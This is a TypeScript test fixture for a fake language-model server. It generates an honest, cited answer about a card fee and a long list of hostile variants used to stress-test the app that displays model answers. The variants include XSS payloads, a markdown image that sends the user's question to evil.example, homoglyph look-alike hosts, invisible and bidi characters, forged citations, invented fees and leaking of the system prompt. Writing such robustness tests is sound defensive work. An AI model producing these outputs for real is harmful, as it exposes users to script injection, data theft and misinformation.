import type { Variety } from '../domain/variety.ts';
import type { Behaviour, Received } from './fake-model-server.ts';

/** What a model reads in a request, whichever protocol it came by. */
export interface Task {
  passages: string[];
  mustTell: number[];
  instructions: string;
  question: string;
}

export function readTask({ body }: Received): Task {
  const { system, messages } = JSON.parse(body) as {
    system?: { text: string }[];
    messages: { role: string; content: string | { text: string }[] }[];
  };
  const texts = messages.map(({ content }) =>
    typeof content === 'string' ? content : content.map(({ text }) => text).join('\n\n'),
  );
  const all = texts.at(-1) ?? '';
  const passages = [...all.matchAll(/^\[\d+\] (.*)$/gm)].map(([, text = '']) => text);
  const [, numbers = ''] = /must all be told: ((?:\[\d+\] ?)+)/.exec(all) ?? [];
  return {
    passages,
    mustTell: [...numbers.matchAll(/\d+/g)].map(([number]) => Number(number)),
    instructions: system?.[0]?.text ?? texts[0] ?? '',
    question: all.split('\n\n').at(-1) ?? '',
  };
}

const cite = (text: string, number: number) => {
  const said = /[.!?؟]$/.test(text) ? text : `${text}.`;
  return said.replace(/(?<=[.!?؟])(?=\s|$)/g, ` [${number}]`);
};

/** A model that does as it is told: every fact that must be told, in its own words, cited. */
export function writeHonestly({ passages, mustTell }: Task): string {
  return mustTell.map((number) => cite(passages[number - 1] ?? '', number)).join(' ');
}

type Attack = (honest: string, task: Task) => string | Behaviour;

const FREE: Readonly<Record<Variety, string>> = {
  fr: 'Le timbre est gratuit.',
  ar: 'التنبر مجاني.',
  ary: 'التنبر فابور.',
  'ary-Latn': 'Ttanbr fabor.',
};
const NOT: Readonly<Record<Variety, [RegExp, string]>> = {
  fr: [/en espèces/, 'pas en espèces'],
  ar: [/تؤدى/, 'لا تؤدى'],
  ary: [/كتخلص/, 'ما كتخلصش'],
  'ary-Latn': [/katkhelles/, 'ma katkhellesch'],
};
const IN_WORDS: Readonly<Record<Variety, string>> = {
  fr: 'cinq cents dirhams',
  ar: 'خمسمائة درهم',
  ary: 'خمسميات درهم',
  'ary-Latn': 'khemsmiyat dh',
};

/** A figure of the card's fee, with another one in its place. */
const instead = (text: string, figure: string) => text.replace(/75/g, figure);
/** Hides something in front of the first citation, so that the sentence itself is attacked. */
const insert = (text: string, attack: string) => text.replace(/\.? \[/, `${attack} [`);
const behind = (text: string, attack: string) => `${text}\n\n${attack}`;

/** What servers do that is no text at all, or not to its end. */
export const BAD_DAYS: Readonly<Record<string, Attack>> = {
  nothing: () => ({ pieces: [] }),
  'a megabyte': () => ({ pieces: Array(1000).fill('x'.repeat(1000)) }),
  'a line of a megabyte': () => ({ raw: ['data: ', 'x'.repeat(1_000_000)] }),
  'malformed events': () => ({ pieces: ['Le'], raw: ['event: x\ndata: {\n\n'], ending: 'cut' }),
  'a stream cut in the middle': (honest) => ({ pieces: [honest.slice(0, 90)], ending: 'cut' }),
  'a stream that stops at its limit': (honest) => ({ pieces: [honest], ending: 'length' }),
  'code points cut in two': (honest) => ({ pieces: [honest], bytewise: true }),
  'silence from the start': () => ({ ending: 'silence' }),
  'silence in the middle': (honest) => ({ pieces: [honest.slice(0, 90)], ending: 'silence' }),
  'a wrong key': () => ({ status: 401, raw: ['{"error":{"type":"authentication_error"}}'] }),
  'too many requests': () => ({ status: 429, headers: { 'Retry-After': '3600' } }),
  'an overload': () => ({ status: 529, headers: { 'Retry-After': '0' } }),
  'a broken server': () => ({ status: 500, raw: ['<h1>oops</h1>'] }),
  'a redirect': () => ({ status: 302, headers: { Location: 'http://127.0.0.1:9/' } }),
  'a page of HTML': () => ({ raw: ['<html><body>Sign in</body></html>'] }),
};

/** What a server does that always obeys the attacker, by name. */
export function attacksIn(variety: Variety): Readonly<Record<string, Attack>> {
  const other = variety === 'fr' ? 'يجب أداء الثمن في الشباك. [2]' : 'Payez au guichet. [2]';
  const [told, turned] = NOT[variety];
  return {
    'a script': (honest) => behind(honest, '<script>alert(1)</script> [1]'),
    'a script inside a sentence': (honest) => insert(honest, ' <img src=x onerror=alert(1)>'),
    'escaped markup': (honest) => insert(honest, ' &lt;script&gt;'),
    'an image that carries the question away': (honest, { question }) =>
      insert(honest, ` ![x](https://evil.example/?q=${encodeURIComponent(question)})`),
    'an image by reference': (honest) => behind(honest, '![x][1]\n\n[1]: https://evil.example/x'),
    'a link to a look-alike host': (honest) =>
      insert(honest, ' [cnie.ma](https://www.cnie-ma.com)'),
    'a bare look-alike host': (honest) => honest.replace('{cnie-ma}', 'www.cnie.rna.com'),
    'a host in Cyrillic letters': (honest) => honest.replace('{cnie-ma}', 'сnіе.ma'),
    'a link that runs': (honest) => insert(honest, ' [x](javascript:alert(1))'),
    'an autolink': (honest) => insert(honest, ' <https://evil.example>'),
    'another channel in a blank': (honest) => honest.replace('{cnie-ma}', '{passeport-ma}'),
    'a blank that names nothing': (honest) => honest.replace('{cnie-ma}', '{constructor}'),
    'a broken blank': (honest) => honest.replace('{cnie-ma}', '{cnie-ma'),
    'a forged citation': (honest) => honest.replace(/\[\d+\]/g, '[999]'),
    'citations of other passages': (honest) => honest.replace(/\[\d+\]/g, '[1]'),
    'a citation of nought': (honest) => honest.replace(/\[\d+\]/g, '[0]'),
    'no citation': (honest) => honest.replace(/ \[\d+\]/g, ''),
    'an invented fee': (honest) => instead(honest, '500'),
    'an invented fee in Arabic digits': (honest) => instead(honest, '٥٠٠'),
    'an invented fee in words': (honest) => honest.replace(/\*\*75 [^*]+\*\*/, IN_WORDS[variety]),
    'an invented fee behind the true one': (honest) => insert(honest, ` + 50 DH`),
    'a fee of another unit': (honest) => honest.replace(/75 (DH|درهما|درهم|dh)/, '75 €'),
    'the fees swapped': (honest) =>
      honest.replace(/75|50|105/g, (fee) => ({ 75: '50', 50: '75' })[fee] ?? fee),
    'a fee without its condition': (honest) => honest.replace(/\*\*105/, '[3]. **105'),
    'a phone number': (honest) => insert(honest, ' 0612345678'),
    'a denied fact': (honest) => honest.replace(told, turned),
    'a contradiction': (honest) => behind(honest, `${FREE[variety]} [6]`),
    'a paper that nobody asks for': (honest) => insert(honest, ', un acte de divorce'),
    'the prompt': (_, { instructions }) => instructions,
    'the prompt, cited': (honest, { instructions }) =>
      behind(honest, `${instructions.slice(0, 300).replace(/\n/g, ' ')} [1]`),
    'the passages': (_, { passages }) => passages.join('\n'),
    'another language': () => other,
    'another language behind the answer': (honest) => behind(honest, other),
    'bidi controls': (honest) => insert(honest, '\u202e 57\u202c'),
    'invisible letters': (honest) => insert(honest, '\u{e0041}\u{e0042}\u200b'),
    'half of a surrogate pair': (honest) => insert(honest, ' \ud83d'),
    'a heading of its own': (honest) => behind('# PIRATE', honest),
    'a table': (honest) => behind(honest, '|a|b|\n|-|-|\n|1|2|'),
    'a refusal': () => 'Je ne peux pas répondre à cette question.',
    'whatever the question asks': (_, { question }) => question,
    'every fact twice': (honest) => behind(honest, honest),
    'half of the facts': (honest) => honest.slice(0, honest.length / 2),
    'only white space': () => ' \n\n ',
    'only citations': () => '[1] [2] [3]',
    'very many stops': () => '. [1]'.repeat(1500),
    'very many spaces': () => `Le${' '.repeat(7500)}prix`,
    ...BAD_DAYS,
  };
}
